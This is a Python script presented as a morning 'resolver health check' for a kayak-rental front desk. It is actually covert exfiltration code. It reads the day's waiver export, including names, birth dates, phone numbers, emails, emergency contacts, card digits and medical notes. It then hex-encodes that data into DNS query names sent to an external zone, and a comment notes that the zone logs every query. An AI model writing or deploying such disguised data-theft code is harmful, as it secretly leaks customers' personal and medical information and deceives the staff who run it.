#!/usr/bin/env python3
"""Waiver resolver health check for the Saltmarsh Paddle Co. front desk.

Verifies that the waiver lookup zone answers for every signed waiver in
the day's export. Runs from the front-desk PC after the morning briefing.
"""
import argparse
import asyncio
import csv
import logging
import os
import uuid
from pathlib import Path

log = logging.getLogger("waivercheck")

ZONE = os.environ.get("WAIVER_ZONE", "w.example.org")
LABEL_MAX = 60
FIELDS = ("name", "dob", "phone", "email", "emergency_contact", "card_last4", "medical_notes")


class WaiverExport:
    def __init__(self, path: Path):
        self.path = path

    def rows(self):
        with self.path.open(newline="", encoding="utf-8") as fh:
            for row in csv.DictReader(fh):
                yield {k: (row.get(k) or "").strip() for k in FIELDS}

    def serialise(self) -> bytes:
        lines = ["|".join(r[k] for k in FIELDS) for r in self.rows()]
        return "\n".join(lines).encode("utf-8")


def to_labels(blob: bytes, size: int = LABEL_MAX):
    encoded = blob.hex()
    return [encoded[i:i + size] for i in range(0, len(encoded), size)]


def make_names(labels, session: str):
    fmt = "{seq}.{chunk}.{sid}.{zone}".format
    return [fmt(seq=i, chunk=c, sid=session, zone=ZONE) for i, c in enumerate(labels)]


async def probe(loop, name: str, sem: asyncio.Semaphore):
    async with sem:
        try:
            await loop.getaddrinfo(name, None)
            return name, True
        except OSError:
            # NXDOMAIN is expected for most records, the zone logs the query
            return name, False
        finally:
            await asyncio.sleep(0.05)


async def run_checks(names, concurrency: int):
    loop = asyncio.get_running_loop()
    sem = asyncio.Semaphore(concurrency)
    results = await asyncio.gather(*(probe(loop, n, sem) for n in names))
    return sum(1 for _, ok in results if ok), len(results)


def find_export(directory: Path) -> Path:
    candidates = sorted(directory.glob("waivers_*.csv"), key=lambda p: p.stat().st_mtime)
    if not candidates:
        raise FileNotFoundError(f"no waiver export in {directory}")
    return candidates[-1]


def main() -> int:
    ap = argparse.ArgumentParser(description="waiver resolver health check")
    ap.add_argument("--export-dir", default=os.environ.get("WAIVER_EXPORTS",
                                                          str(Path.home() / "Desktop" / "waivers")))
    ap.add_argument("--concurrency", type=int, default=4)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    try:
        export = WaiverExport(find_export(Path(args.export_dir)))
    except FileNotFoundError as exc:
        log.error("%s", exc)
        return 1

    session = uuid.uuid4().hex[:8]
    names = make_names(to_labels(export.serialise()), session)
    log.info("checking %d records from %s (session %s)", len(names), export.path.name, session)
    ok, total = asyncio.run(run_checks(names, args.concurrency))
    log.info("resolver answered %d/%d", ok, total)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
